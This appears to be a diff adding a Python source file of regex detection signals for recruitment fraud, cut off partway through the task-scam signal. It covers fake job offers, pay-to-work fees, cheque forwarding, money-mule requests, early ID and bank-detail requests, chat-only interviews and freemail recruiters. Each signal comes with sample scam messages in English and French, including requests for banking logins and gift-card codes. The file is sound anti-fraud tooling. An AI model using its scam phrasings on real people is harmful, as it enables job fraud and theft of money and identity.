@@ -1,0 +1,1098 @@
+"""Signals for recruitment fraud (F1-F13) and developer-targeted malware lures (L1-L9).
+
+Reference codes are the rows of ``RED-FLAGS.md`` sections 1d-1f; the benign counter-signals at
+the end follow section 1f (money flows to the candidate only; a take-home written by the
+candidate on a known platform; a standard video or phone interview). Patterns are over the
+matching form (lower case, no accents, single spaces), written short and general so that they
+catch informal messages with typos. Names are a public contract, persisted in model files.
+"""
+
+from __future__ import annotations
+
+from . import detectors as d
+from .base import CallableSignal, Example, PatternSignal
+from .lexicon import FREEMAIL, app_name, near
+
+E = Example
+
+__all__ = ["FRAUD_AND_LURE_SIGNALS", "GATE_GROUPS"]
+
+_CUR = r"(?:[$€£]|\b(?:usd|eur|gbp|chf|cad|aud|usdt|dollars?|euros?|pounds?|francs?)\b)"
+_NUM = r"[0-9]{1,3}(?:[ ,.]?[0-9]{3})?(?:[.,][0-9]{1,2})?"
+
+# --------------------------------------------------------------------------------------------
+# recruitment fraud
+# --------------------------------------------------------------------------------------------
+_ROLE_WORDS = (r"(?:position|role|job|post|vacancy|opening|offer|assignment|remote position"
+               r"|part-time (?:job|position|role)|assistant|agent)")
+OFFER_WITHOUT_INTERVIEW = PatternSignal(
+    name="offer_without_interview",
+    description="Announces a hiring decision in a first contact, with no application or "
+    "interview: 'you have been selected', 'your CV has been approved', 'no interview needed'.",
+    category="fraud",
+    polarity="risk",
+    source="F1: FTC Job Scams; FTC alert 2021; cybermalveillance; Léo Lagrange; JDN; RMC; "
+    "LinkedIn VP post; BBB; UMD and U-M; SMU",
+    patterns={
+        "message": (
+            r"\b(?:you|u)(?: have|'ve| ve| are| were| has)? (?:been |now |officially )?(?:selected"
+            r"|chosen|hired|approved|accepted|employed|recruited) (?:for|as) (?:the |this |a |an"
+            r" |our )?(?:[a-z\-]+ ){0,3}" + _ROLE_WORDS + r"\b",
+            r"\b(?:you|u)(?: have|'ve| ve)? (?:been )?(?:selected|chosen|hired|approved)"
+            r" ?(?:[.!,]|$)",
+            r"\b(?:your )?(?:cv|resume|profile|application) (?:has been|have been|was|is|got)"
+            r" (?:approved|validated|selected|recommended|accepted) (?:by|for)\b",
+            r"\bno (?:interviews?|job interview) (?:is |will be )?(?:needed|required|necessary"
+            r"|involved)\b|\bwithout (?:an |any )?(?:job )?interview\b",
+            r"\b(?:(?:you|u) (?:can|could|will|may)|you'll|can (?:you|u)"
+            r"|ready to) start (?:working )?"
+            r"(?:immediately|right away|today|tomorrow|asap|at once)\b",
+            r"\bthe (?:job|position|role|post) is (?:yours|all yours)\b",
+            r"\b(?:pleased|happy|glad|delighted) to (?:offer you|inform you that you (?:have been"
+            r"|were|are) (?:selected|hired|chosen)) (?:the|this|a|an|our)? ?(?:[a-z\-]+ )?"
+            + _ROLE_WORDS,
+            r"\b(?:recommended|referred) (?:to us )?by (?:several|multiple|many|various|different)"
+            r" (?:recruitment |recruiting |staffing |employment )?(?:agencies|agents|recruiters"
+            r"|companies)\b",
+            r"\bguaranteed (?:job|position|employment|placement|hiring)\b|\bjob guarantee\b",
+            # French
+            r"\b(?:vous|tu) (?:avez ete|etes|as ete|es) (?:selectionne|choisi|embauche|recrute"
+            r"|retenu)e?s? (?:pour (?:le|ce|un|notre|cet) (?:poste|emploi|job|travail|mission)"
+            r"|par (?:notre|la) (?:societe|entreprise)|comme)\b",
+            r"\b(?:votre|ton) (?:cv|candidature|profil) (?:a ete|est) (?:approuve|valide|accepte"
+            r"|retenu|selectionne)e? ?(?:par\b|[.!]|$)",
+            r"\bsans (?:aucun )?entretien\b",
+            r"\b(?:commencer|debuter|demarrer) (?:des )?(?:aujourd'hui|demain|immediatement"
+            r"|maintenant|tout de suite)\b",
+            r"\b(?:le|ce) poste est (?:a vous|pour vous|a toi)\b",
+            r"\brecommande(?:e)? par (?:plusieurs|differentes|de nombreuses) (?:agences|cabinets"
+            r"|entreprises)\b",
+        )
+    },
+    examples=(
+        E("Congratulations! You have been selected for the remote data entry position.",
+          spans=("You have been selected for the remote data entry position",)),
+        E("your resume has been approved by our HR, no interview needed, u can start today",
+          spans=("resume has been approved by", "no interview needed", "u can start today")),
+        E("Bonjour, votre CV a été approuvé par notre société. Vous pouvez commencer dès "
+          "aujourd'hui.", lang="fr",
+          spans=("CV a été approuvé par", "commencer dès aujourd'hui")),
+        E("Vous avez été sélectionnée pour le poste d'assistante, sans entretien.", lang="fr",
+          spans=("sélectionnée pour le poste", "sans entretien")),
+    ),
+    counterexamples=(
+        E("Thanks for applying: you've been shortlisted for an interview next week.",
+          note="an invitation to interview after an application"),
+        E("Could you send me your updated CV?"),
+        E("Suite à votre candidature, vous êtes retenue pour un entretien mardi.", lang="fr"),
+    ),
+)
+
+LOW_SKILL_REMOTE_ROLE = PatternSignal(
+    name="low_skill_remote_role",
+    description="Offers a low-skill remote role that fraud uses as cover: personal assistant, "
+    "data entry, reshipping parcels, mystery shopper, payment-processing or financial agent.",
+    category="fraud",
+    polarity="risk",
+    source="F2: FTC Job Scams (reshipping, mystery shopper); LVECU; UCR; NC State; FFA UK via "
+    "YourMoney; Herts Constabulary; Univ. of South Wales; PRIM/Monster; votrepolice.ch; JDN",
+    patterns={
+        "message": (
+            r"\b(?:personal|virtual|private) (?:assistant|secretary|errand runner)s?\b"
+            r"|\bremote (?:admin |administrative |office |personal )?assistants?\b",
+            r"\bdata[- ]?entry\b",
+            r"\b(?:re-?ship|re-?shipping|reshipment|forward|forwarding|repack|repackaging"
+            r"|inspect|inspecting) (?:the |of )?(?:packages|parcels|goods|items|shipments"
+            r"|products)\b",
+            r"\b(?:receive|receiving) (?:and (?:re-?ship|forward|send|inspect)|packages|parcels)\b",
+            r"\b(?:package|parcel|shipping|reshipping) (?:inspector|handler|forwarder|manager"
+            r"|coordinator|agent|receiver)s?\b",
+            r"\b(?:mystery|secret) shop(?:per|pers|ping)\b",
+            r"\b(?:payment|payments|money|funds) (?:processing |transfer |collection )?(?:agent"
+            r"|processor|representative|officer|coordinator|clerk)s?\b",
+            r"\b(?:local|regional) (?:payment )?processors?\b|\bfinancial agents?\b",
+            # French
+            r"\bassistante? (?:personnelle?|virtuelle?|privee?)\b",
+            r"\bsaisie de donnees\b|\bagente? de saisie\b",
+            r"\b(?:reception|receptionner|recevoir) (?:et (?:reexpedi|renvo|expedi)\w{0,8}|de colis"
+            r"|des colis)\b|\breexpedi\w{0,8} (?:de |des |les )?colis\b",
+            r"\bclient(?:e)? mystere\b",
+            r"\bagente? financiere?\b|\bagente? de (?:paiement|transfert)\b",
+            r"\boperat(?:eur|rice) (?:marketing|de saisie)(?: sur internet)?\b",
+        )
+    },
+    examples=(
+        E("We need a virtual assistant to receive and reship packages from home.",
+          spans=("virtual assistant", "receive and reship")),
+        E("Hiring a payment processing agent, 2 hrs/day", spans=("payment processing agent",)),
+        E("Poste d'assistante personnelle et réception de colis à domicile.", lang="fr",
+          spans=("assistante personnelle", "réception de colis")),
+        E("Mission de client mystère, rémunérée.", lang="fr", spans=("client mystère",)),
+    ),
+    counterexamples=(
+        E("We're hiring a senior payments engineer for our card-processing platform."),
+        E("Poste d'ingénieur logistique, gestion des entrepôts, CDI.", lang="fr"),
+    ),
+)
+
+EASY_MONEY = PatternSignal(
+    name="easy_money",
+    description="Frames the pay as easy money: pay per day or per task, paid the same day, a "
+    "few hours a day, no experience needed, work from your phone.",
+    category="inducement",
+    polarity="risk",
+    source="F3 (fraud form of M6): FTC Job Scams; consumer.gov; FBI 2017; LinkedIn Help; RMC; "
+    "JDN; Léo Lagrange; Pôle emploi; Lausanne Cités; Take Five",
+    patterns={
+        "message": (
+            _CUR + r" ?" + _NUM + r"(?: ?(?:-|to|a) ?" + _NUM + r")? ?(?:k )?(?:[a-z]{1,10} )?"
+            r"(?:(?:per|a|/|each|every) ?(?:day|task|order|review|click|like|video|post)\b"
+            r"|daily\b)",
+            r"\b" + _NUM + r"(?: ?(?:-|to|a) ?" + _NUM + r")? ?(?:k )?" + _CUR + r" ?(?:(?:per|a|/"
+            r"|each|every|par) ?(?:day|task|order|review|click|like|video|post|jour|tache|mission)"
+            r"\b|daily\b|quotidiens?\b)",
+            r"\b(?:only|just|all) (?:you )?(?:need|needs|require|required) (?:is )?(?:a|your|ur)"
+            r" (?:phone|smartphone|mobile|cell ?phone)\b",
+            r"\b(?:paid|payment|pay|payout|earnings|salary|commission)s?(?: is| are)?"
+            r" (?:daily|the same day|same[- ]day|every day|each day|instantly|weekly in advance)\b",
+            r"\b(?:only |just )?(?:[1-4]|one|two|three|a few|few|couple of|1-2|2-3|1 to 2|2 to 3"
+            r"|30 ?min(?:utes)?) ?(?:hours?|hrs?|h)? ?(?:a|per|each|every|/) ?day\b",
+            r"\bno (?:prior |previous )?(?:experience|skills|qualifications?|degree|cv|resume)"
+            r" (?:is )?(?:needed|required|necessary|requested)\b",
+            r"\b(?:free training|training (?:is )?(?:provided|free|included|offered))\b",
+            r"\bfrom (?:your|the comfort of your|home with your) (?:phone|smartphone|mobile|couch"
+            r"|sofa|bed)\b|\bwith (?:just )?your (?:phone|smartphone)\b",
+            r"\b(?:easy|simple|quick) (?:money|cash|income|tasks? (?:and|with) (?:good|high|great)"
+            r" (?:pay|income|commission))\b",
+            # French
+            r"\bsans (?:aucune )?(?:experience|qualification|diplome|cv|competence)s?"
+            r"(?: particuliere| requise| necessaire| exigee)?\b",
+            r"\b(?:quelques|[1-3]|une|deux|trois) ?(?:h|heures?) par jour\b",
+            r"\bformation (?:offerte|gratuite|fournie|assuree)\b",
+            r"\bliberte d'horaires?\b|\bhoraires libres\b",
+            r"\b(?:paye|payee|payes|paiement|remuneration|remunere)e?s? (?:le jour meme|chaque jour"
+            r"|tous les jours|quotidien(?:ne)?(?:ment)?|journalier(?:e)?|immediat(?:e)?)\b",
+            r"\bdepuis (?:votre|ton) (?:telephone|smartphone|portable|canape|lit)\b",
+        )
+    },
+    examples=(
+        E("Earn $300 per day, only 1-2 hours a day from your phone, no experience required!",
+          spans=("$300 per day", "1-2 hours a day", "from your phone",
+                 "no experience required")),
+        E("paid same day, training provided", spans=("paid same day", "training provided")),
+        E("De 100 à 1 000 euros par jour, sans expérience, quelques heures par jour.", lang="fr",
+          spans=("1 000 euros par jour", "sans expérience", "quelques heures par jour")),
+    ),
+    counterexamples=(
+        E("Contract role, day rate agreed with your agency, 6 months in Leeds.",
+          note="a contractor day rate without an amount per day of effort"),
+        E("Salaire 55-65 k€, CDI à Nantes, deux jours de télétravail.", lang="fr"),
+    ),
+)
+
+_COMPANY_PAYS = (
+    r"\bno (?:[a-z\-]+ ){0,2}(?:fees?|charge|costs?|payment|deposit)\b"
+    r"|\b(?:never|not|no|don't|do not|won't|will not|without) (?:(?:any|ask|asking|charge"
+    r"|charging|candidates|applicants|you|for|to|pay|a|the)\s){0,3}(?:fees?|charge|costs?|payment"
+    r"|money|deposit)\b"
+    r"|\b(?:covered|paid|borne|reimbursed|handled|provided|shipped|sent) by (?:us|the company"
+    r"|the employer|our company|the firm)\b|\bat (?:our|the company's|the employer's) (?:expense"
+    r"|cost)\b|\bfree of charge\b"
+    r"|\bwe(?:'ll| will)? (?:cover|pay for|sponsor|handle|take care of|provide|ship|send|courier)"
+    r"\b"
+    r"|\b(?:jamais|aucuns?) (?:de )?frais\b|\bgratuite?s?\b|\bpris en charge par (?:nous"
+    r"|l'entreprise|la societe|l'employeur)\b|\ba (?:nos|la charge de l'employeur) frais\b"
+)
+PAY_TO_WORK = PatternSignal(
+    name="pay_to_work",
+    description="Asks the candidate to pay to get or start the job: a training, registration, "
+    "background-check or visa fee, a starter kit, equipment bought from 'our vendor'.",
+    category="fraud",
+    polarity="risk",
+    source="F4: FTC alerts 2020/2021; consumer.gov; FBI 2017/2020; LinkedIn Help; Action Fraud "
+    "/NFIB; City of London Police/SAFERjobs; Get Safe Online; DGCCRF; Pôle emploi; Take Five",
+    unless=_COMPANY_PAYS,
+    unless_scope="sentence",
+    patterns={
+        "message": (
+            r"\b(?:training|registration|application|processing|onboarding|admin|administrative"
+            r"|administration|enrol?ment|membership|placement|uniform|visa|background check|crb"
+            r"|dbs|police check|certification|activation|starter|security|refundable|equipment"
+            r"|insurance|work permit|booking) (?:fee|fees|deposit|charge)s?\b",
+            r"\b(?:you|u) (?:will |would |'ll )?(?:need|needs|have|has|must|are required|should"
+            r"|will have) (?:to )?(?:pay|purchase|buy|deposit|cover|send|transfer) (?:a |an |the"
+            r" |your |for |some )?(?:[a-z\-]+ )?(?:fee|fees|deposit|money|payment|equipment"
+            r"|software|laptop|kit|materials|training|license|licence|[$€£]|[0-9])",
+            r"\bstarter (?:kit|pack|package)\b",
+            r"\b(?:buy|purchase|order) (?:the |your |ur |some |all )?(?:needed |required "
+            r"|necessary )?"
+            r"(?:equipment|software|laptop|materials|supplies|kit|license|licence|devices?|office"
+            r" equipment)s? (?:from|through|via) (?:our|the|a|an|my) (?:vendor|supplier|partner"
+            r"|approved|designated|preferred|certified|store|shop)\b",
+            near(r"\b(?:pay|fee|deposit|payment|transfer|send)\b",
+                 r"\bto (?:secure|reserve|hold|confirm|activate|unlock|guarantee) (?:your |the "
+                 r"|a )?"
+                 r"(?:position|place|spot|slot|job|role|account|contract|start date|seat)\b"),
+            r"\b(?:reimburs|refund)\w{0,4} (?:you )?(?:later|afterwards|after|once|in|with|on|from)"
+            r" (?:your |the )?(?:first|1st|next)? ?(?:pay|paycheck|paycheque|salary|payslip|payday"
+            r"|month|week|wage)\b",
+            # French
+            r"\bfrais (?:de |d')(?:formation|dossier|inscription|adhesion|ouverture|gestion"
+            r"|traitement|activation|materiel|equipement|visa)\b|\bfrais administratifs\b",
+            r"\bkit de demarrage\b|\bavance de frais\b",
+            r"\b(?:verser|versez|payer|payez|regler|reglez|deposer|envoyer|envoyez) (?:un |une"
+            r" |des |le |la |les )?(?:acompte|caution|frais|avance|participation|cotisation)\b",
+            r"\b(?:acheter|achetez|commander|commandez) (?:le |du |votre |un |les |des )?"
+            r"(?:materiel|logiciel|equipement|kit|ordinateur)s? (?:aupres de|chez|via) (?:notre"
+            r"|nos|un|le)\b",
+            r"\brembourse(?:e|s|es)? (?:sur|avec|des|lors de|a) (?:votre |le |la )?(?:premier|1er"
+            r"|premiere) (?:salaire|paie|virement|mois)\b",
+        )
+    },
+    examples=(
+        E("To start, a refundable training fee of $150 is required via Zelle.",
+          spans=("training fee",)),
+        E("You will need to purchase the software from our approved vendor, reimbursed with your "
+          "first paycheck.", spans=("You will need to purchase the software",
+                                     "reimbursed with your first paycheck")),
+        E("Pay the uniform deposit to secure your position.", spans=("uniform deposit",)),
+        E("Des frais de dossier de 50 € sont à régler avant la formation.", lang="fr",
+          spans=("frais de dossier",)),
+        E("Merci de verser un acompte pour le kit de démarrage.", lang="fr",
+          spans=("verser un acompte", "kit de démarrage")),
+    ),
+    counterexamples=(
+        E("We'll courier you a company laptop before day one."),
+        E("We sponsor visas for this role."),
+        E("Visa processing fees are covered by the company."),
+        E("We never charge candidates any fee."),
+        E("Les frais de visa sont pris en charge par l'entreprise.", lang="fr"),
+        E("Nous ne demandons jamais de frais aux candidats.", lang="fr"),
+    ),
+)
+
+CHEQUE_FORWARDING = PatternSignal(
+    name="cheque_forwarding",
+    description="Sends the candidate a cheque or funds to deposit and pass on: 'deposit the "
+    "check and send the balance to our vendor', 'buy gift cards and send the codes'.",
+    category="fraud",
+    polarity="risk",
+    source="F5: FTC alert 2021; BBB 2021 study (36%); BBB tips; FBI 2017; IC3 2012 wire-back "
+    "alert; UMD; U-M HITS; UCR; Wichita State; SMU; Léo Lagrange; Banque de Savoie",
+    patterns={
+        "message": (
+            r"\b(?:we(?:'ll| will)?|i(?:'ll| will)?|will|to) (?:send|mail|post|courier|issue|give)"
+            r" (?:you |u )?(?:a |the |your |ur )?(?:check|cheque|money order|certified check"
+            r"|cashier'?s"
+            r" check)s?\b",
+            near(r"\b(?:deposit|cash|mobile deposit|encash)\b",
+                 r"\b(?:checks?|cheques?|money orders?)\b", r"[^.!?]{0,20}"),
+            r"\b(?:send|wire|transfer|forward|remit|return|zelle|pay) (?:back )?(?:the )?(?:balance"
+            r"|remainder|rest|remaining (?:amount|funds|money)|excess|difference|overpayment"
+            r"|surplus)\b",
+            r"\b(?:pay|send|transfer|wire) (?:it |the (?:funds|money) )?(?:to )?(?:our|the|a)"
+            r" (?:vendor|supplier|preferred agent|designated vendor|approved vendor)\b",
+            r"\b(?:buy|purchase|get) (?:some |the |a few |[0-9]{1,2} )?(?:gift ?cards?|vouchers?"
+            r"|steam cards?"
+            r"|itunes cards?|apple cards?|google play cards?)\b",
+            r"\b(?:send|text|email|share|scratch)(?: me| us)? (?:the "
+            r"|all )?(?:gift card )?(?:codes?"
+            r"|pins?|card numbers?)\b",
+            # French
+            r"\bencaiss\w{0,6} (?:un |le |ce |les |des )?cheques?\b",
+            near(r"\b(?:cheques?)\b", r"\b(?:encaiss|depos)\w{0,6}", r"[^.!?]{0,30}"),
+            r"\b(?:reverser|reversez|renvoyer|renvoyez|transferer|transferez|virer|virez|envoyer"
+            r"|envoyez|rendre|rendez) (?:une partie|le reste|le solde|la difference|l'excedent"
+            r"|le surplus|le trop-percu)\b",
+            r"\bmandat cash\b",
+            r"\bcartes? (?:cadeaux?|prepayees?|pcs|transcash|neosurf|google play|itunes)\b",
+        )
+    },
+    examples=(
+        E("We'll send you a check for your equipment; deposit it and send the balance to our "
+          "vendor.", spans=("send you a check", "send the balance")),
+        E("pls buy 3 gift cards and send me the codes", spans=("buy 3 gift cards",)),
+        E("Vous allez encaisser un chèque puis reverser une partie par mandat cash.", lang="fr",
+          spans=("encaisser un chèque", "reverser une partie", "mandat cash")),
+    ),
+    counterexamples=(
+        E("Salary is paid monthly by bank transfer through payroll."),
+        E("Le salaire est versé par virement chaque mois.", lang="fr"),
+    ),
+)
+
+MONEY_MULE = PatternSignal(
+    name="money_mule",
+    description="Wants to use the candidate's bank account: receive payments and transfer them "
+    "on, keep a commission, open a new account, hand over online-banking access.",
+    category="fraud",
+    polarity="risk",
+    source="F6: Action Fraud money-mule alert; Cifas 2024; FFA UK via YourMoney; "
+    "Nottinghamshire Police; Univ. of Wolverhampton; Herts Constabulary; Febelfin; Beobank",
+    patterns={
+        "message": (
+            r"\b(?:receive|receiving|accept|accepting|process|processing|handle|handling|collect"
+            r"|collecting) (?:customer |client |incoming |our )?(?:payments?|funds|money|transfers?"
+            r"|deposits?|wires?|donations) (?:into|on|to|through|via|in|using) (?:your|a"
+            r" personal|your personal|your own|a new) (?:bank )?(?:account|bank)\b",
+            r"\b(?:use|using|lend|rent|borrow) (?:of )?your (?:bank |personal |own |checking"
+            r" |savings )?(?:bank account|account details|accounts|card)\b",
+            r"\b(?:transfer|send|wire|forward|move|pass) (?:them|it|the (?:funds|money|payments))"
+            r" (?:on|onward|onwards|to our|to the (?:company|client|supplier))\b",
+            r"\bprocess (?:customer|client|company) payments\b",
+            r"\bkeep (?:a |an |your )?(?:[0-9]{1,2} ?% )?(?:commission|percentage|cut)\b",
+            r"\bopen (?:a |an )?(?:new |second |additional )?(?:bank )?account (?:in your name"
+            r"|for (?:us|the company|this job))\b",
+            r"\b(?:online[- ]banking|bank|banking) (?:login|log-in|credentials|password|access"
+            r"|username)\b",
+            # French
+            r"\bfaire (?:transiter|passer|circuler) (?:de l'argent|des fonds|des virements|des"
+            r" paiements|des sommes)\b",
+            r"\b(?:recevoir|recevez|recois|receptionner) (?:des |les )?(?:virements|fonds|paiements"
+            r"|sommes) (?:sur|dans) (?:votre|ton) compte\b",
+            r"\b(?:garder|gardez|conservez|conserver|garde) (?:une |votre |un |ta )?(?:commission"
+            r"|pourcentage)\b",
+            r"\b(?:transmettre|transmettez|communiquer|communiquez|donner|donnez) (?:vos |tes )?"
+            r"(?:codes? d'acces|identifiants (?:bancaires|de banque)|codes bancaires)\b",
+            r"\b(?:preter|louer|utiliser) (?:votre|ton) compte bancaire\b",
+            r"\bouvrir un (?:nouveau )?compte (?:bancaire )?(?:a votre nom|pour (?:nous"
+            r"|la societe))\b",
+        )
+    },
+    examples=(
+        E("You will receive customer payments into your bank account, transfer them on and keep "
+          "a 10% commission.", spans=("receive customer payments into your bank account",
+                                      "transfer them on", "keep a 10% commission")),
+        E("just need your online banking login to set up payroll",
+          spans=("online banking login",)),
+        E("Il s'agit de recevoir des virements sur votre compte et de garder une commission.",
+          lang="fr", spans=("recevoir des virements sur votre compte", "garder une commission")),
+    ),
+    counterexamples=(
+        E("Your salary will be paid into your bank account at the end of each month."),
+        E("Votre salaire sera versé sur votre compte à la fin du mois.", lang="fr"),
+    ),
+)
+
+_AFTER_OFFER = (
+    r"\b(?:after|once|following|upon) (?:(?:you|an?|the|our|your|signing|accepting|receive"
+    r"|accept|have|sign|written)\s){0,3}(?:offer|contract|hire|hiring|onboarding|start date"
+    r"|first day)\b|\b(?:during|at|through|via) (?:(?:the|our|your|formal)\s){0,2}(?:onboarding"
+    r"|payroll|hr system|hr portal|right-to-work check)\b"
+    r"|\b(?:apres|lors de|a) (?:l'|la |le |votre )?(?:offre|signature|embauche|integration"
+    r"|contrat|premier jour)\b"
+)
+EARLY_IDENTITY_REQUEST = PatternSignal(
+    name="early_identity_request",
+    description="Asks in the first messages for identity or bank documents: a copy of an ID or "
+    "passport, social-security number, date of birth, bank details 'for direct deposit'.",
+    category="elicitation",
+    polarity="risk",
+    source="F7: FTC alert 2020; FBI 2017/2020; BBB 2021 (34%/25%); LinkedIn VP post; Pôle "
+    "emploi; Léo Lagrange; cybermalveillance; Get Safe Online; Action Fraud; vsafe.gov",
+    unless=_AFTER_OFFER + r"|\b(?:never|not|don't|do not|won't"
+    r"|will not) (?:(?:ask|asking|you|for|request|requesting|need)\s){0,3}(?:your|any|a|for)\b"
+    r"|\b(?:jamais|ne (?:vous )?demand\w{0,6} (?:jamais|pas))\b",
+    unless_scope="sentence",
+    patterns={
+        "message": (
+            r"\b(?:send|provide|upload|share|forward|email|submit|attach|scan|need|require|text"
+            r"|give)(?: me| us)? (?:a |an |the |your )?(?:(?:clear |scanned |front and back )?"
+            r"(?:copy|scan|photo|picture) of )?(?:your )?(?:id|id card|identity card|photo id"
+            r"|passport|driver'?s licen[cs]e|driving licen[cs]e|ssn|social security (?:number"
+            r"|card)|national insurance number|bank (?:details|account|statement|card)|routing"
+            r"(?: and account)? number|account number|date (?:and place )?of birth|sin number"
+            r"|tax id|selfie)\b",
+            r"\b(?:bank|account) (?:details|information|info|number) (?:for|to set up) (?:the )?"
+            r"(?:direct deposit|payroll|payment|salary)\b",
+            r"\bfill (?:in|out) (?:the |this |our )?(?:attached )?(?:employment|onboarding|hiring"
+            r"|new hire|i-9|w-4|personal information) (?:form|application|documents?)\b",
+            # French
+            r"\b(?:envoyez|envoyer|envoie|fournir|fournissez|transmettre|transmettez|joindre"
+            r"|joignez|communiquez)(?:-moi|-nous| moi| nous)? (?:une |la |votre |ta |un |le )?"
+            r"(?:copie |photo |scan )?(?:de |d')?(?:votre |ta )?(?:piece d'identite|carte"
+            r" d'identite|passeport|rib|releve d'identite bancaire|numero de securite sociale"
+            r"|carte vitale|permis de conduire|photo d'identite|coordonnees bancaires|date (?:et"
+            r" lieu )?de naissance)\b",
+        )
+    },
+    examples=(
+        E("Before we proceed, send a copy of your ID and your bank details for direct deposit.",
+          spans=("send a copy of your ID", "bank details for direct deposit")),
+        E("pls provide your SSN and date of birth to complete the hiring",
+          spans=("provide your SSN",)),
+        E("Merci d'envoyer une copie de votre pièce d'identité et votre RIB.", lang="fr",
+          spans=("envoyer une copie de votre pièce d'identité",)),
+    ),
+    counterexamples=(
+        E("Could you send me your updated CV?"),
+        E("After you accept the offer, HR will ask for your ID through our onboarding portal.",
+          note="after an offer, through HR"),
+        E("We will never ask for your bank details before a contract."),
+        E("Votre pièce d'identité sera demandée lors de l'embauche par les RH.", lang="fr"),
+    ),
+)
+
+_CHAT_APPS = (r"(?:" + "|".join(app_name(w) for w in ("telegram", "whatsapp")) + r"|signal"
+              r"|hangouts|google chat|wickr|textnow|wechat|text messages?|sms|chat|instant"
+              r" messag\w{0,6}|messenger|imessage|texts?|e-?mail)")
+CHAT_ONLY_INTERVIEW = PatternSignal(
+    name="chat_only_interview",
+    description="Holds the interview itself by text chat or asks to install a messaging app to "
+    "continue: 'the interview will be on Telegram', 'answer these questions by text'.",
+    category="contact",
+    polarity="risk",
+    source="F8 (sub-feature of M9): BBB (Signal text interviews); vsafe.gov; Wichita State; East "
+    "Midlands police; Bitdefender; 20 Minutes (CH); Lausanne Cités; monargentmag; FBI IC3 2024",
+    patterns={
+        "message": (
+            near(r"\binterview(?:s|ed)?\b", r"\b(?:via|on|over|through|by|in|using) (?:a |the )?"
+                 + _CHAT_APPS + r"\b", r"[^.!?]{0,40}"),
+            r"\b(?:text|chat|written|online chat|instant messaging|im|messaging)[- ](?:based )?"
+            r"interviews?\b",
+            r"\b(?:answer|reply to|respond to|complete) (?:these|the|some|a few|my|our"
+            r"|the following)"
+            r" (?:interview |screening )?questions (?:by|via|over|in|on) (?:text|chat|message"
+            r"|messages|writing|email|e-mail|telegram|whatsapp|signal)\b",
+            r"\b(?:download|install|get) (?:the )?(?:" + app_name("telegram") + r"|"
+            + app_name("whatsapp") + r"|signal|wickr|textnow|hangouts|google chat|messaging)"
+            r"(?: app| application)? (?:and|to) (?:add|message|text|contact|chat with|reach"
+            r"|talk to|start|continue|begin) (?:me|us|the|our|your)\b",
+            r"\b(?:can't|cannot|can not|unable to|not able to|won't be able to|don't|do not)"
+            r" (?:do|take|make|hold|have|join|attend|answer) (?:any )?(?:phone calls|voice calls"
+            r"|video calls|calls|phone or video calls)\b",
+            # French
+            r"\bentretiens? (?:se (?:fera|deroulera|passera|fait) |aura lieu |a lieu |)(?:sur|via"
+            r"|par) (?:" + app_name("telegram") + r"|" + app_name("whatsapp") + r"|signal"
+            r"|messagerie|chat|ecrit|sms|hangouts|messages?)\b",
+            r"\bentretiens? (?:par ecrit|ecrits?|par messages?|par chat|par sms)\b",
+            r"\b(?:repondez|repondre|reponds)(?:-y)? (?:aux questions |a ces questions )?"
+            r"(?:par ecrit|par message|sur telegram|sur whatsapp)\b",
+            r"\btelecharge[zr]? (?:l'application |l'appli )?(?:" + app_name("telegram") + r"|"
+            + app_name("whatsapp") + r"|signal)\b",
+        )
+    },
+    examples=(
+        E("The interview will be conducted on Telegram with our hiring manager.",
+          spans=("interview will be conducted on Telegram",)),
+        E("Download the whats app app and add me for your chat interview",
+          spans=("Download the whats app app and add me", "chat interview")),
+        E("I'm travelling and can't do phone calls, answer these questions by text.",
+          spans=("can't do phone calls", "answer these questions by text")),
+        E("L'entretien se fera sur Telegram, répondez par écrit.", lang="fr",
+          spans=("entretien se fera sur Telegram",)),
+    ),
+    counterexamples=(
+        E("Join via this Teams link."),
+        E("The first interview is a 30-minute video call; I'll send the invite by email.",
+          note="video interview, invite by e-mail"),
+        E("L'entretien aura lieu en visio sur Teams.", lang="fr"),
+    ),
+)
+
+FREEMAIL_COMPANY_CONTACT = CallableSignal(
+    name="freemail_company_contact",
+    description="Writes as a company's HR or recruiting team but gives a consumer e-mail "
+    "address (gmail, outlook, yahoo...) instead of one on the company's own domain.",
+    category="contact",
+    polarity="risk",
+    source="F9: FTC recruiter alert (@gmail.com instead of @companyname.com); BBB tips; Wichita "
+    "State; Action Fraud; East Midlands police; LinkedIn Help (mismatched domains); Notre "
+    "Dame; UCR",
+    detector=d.freemail_company_contact,
+    fast=d.freemail_company_contact_fast,
+    prefilter=(("message", FREEMAIL, False),),
+    reads=("message",),
+    examples=(
+        E("I'm the recruiter for Helix Quantum, send your CV to hr.helixquantum@gmail.com",
+          spans=("hr.helixquantum@gmail.com", "recruiter")),
+        E("Our HR department will contact you from recruitment.dept@outlook.com",
+          spans=("recruitment.dept@outlook.com", "HR")),
+        E("Écrivez au service recrutement : rh.lumen@hotmail.fr", lang="fr",
+          spans=("rh.lumen@hotmail.fr",)),
+    ),
+    counterexamples=(
+        E("HR team: priya.nair@helix-quantum.io",
+          fields={"sender_company": "Helix Quantum", "sender_company_url": "helix-quantum.io"}),
+        E("Contact RH : c.dupont@atelier-lumen.fr", lang="fr",
+          fields={"sender_company": "Atelier Lumen"}),
+        E("I'm a freelance designer, write to jo.design@gmail.com",
+          note="a personal address of an individual: off_platform_request covers it"),
+    ),
+)
+
+TASK_SCAM = PatternSignal(
+    name="task_scam",
+    description="Describes a task scam: rate products or like videos for a commission, "
+    "'app optimisation', sets of tasks, topping up an account to unlock work.",
+    category="fraud",
+    polarity="risk",
+    source="F11: FBI IC3 PSA June 2024; FTC task scams (MilitaryConsumer.gov); FTC data via AP; "
+    "RMC; JDN; monargentmag (Swiss NCSC); 20 Minutes CH; Bluewin; Beobank; Folhomee",
+    patterns={
+        "message": (
+            r"\b(?:rate|rating|review|reviewing|like|liking|boost|boosting|optimi[sz]e"
+            r"|optimi[sz]ing"
+            r"|click|clicking|subscribe to|follow|watch|watching) (?:(?:the|some|our|online|hotel"
+            r"|amazon|youtube|tiktok|instagram)\s)?(?:products?|restaurants?|hotels?|apps?"
+            r"|videos?|posts?|merchants?|movies?|songs?|listings?|reviews?|channels?)\b",
+            r"\b(?:product|app|apps|merchant|order|traffic) (?:boosting|grabbing)\b"
+            r"|\bapps? optimi[sz](?:ation|er|ers)\b",
+            r"\b(?:application|product|merchant|data|rating|review|ranking) (?:optimi[sz]ation"
+            r"|optimi[sz]er|rating|submission)s? (?:tasks?|jobs?|work|assistant|specialist"
+            r"|agent)\b",
+            r"\b(?:complete|completing|finish|finishing|do|submit) (?:a |one |the |your |each"
+            r" )?(?:set|sets|group|batch|round|series) of (?:[0-9]{1,3} )?(?:tasks|orders|reviews"
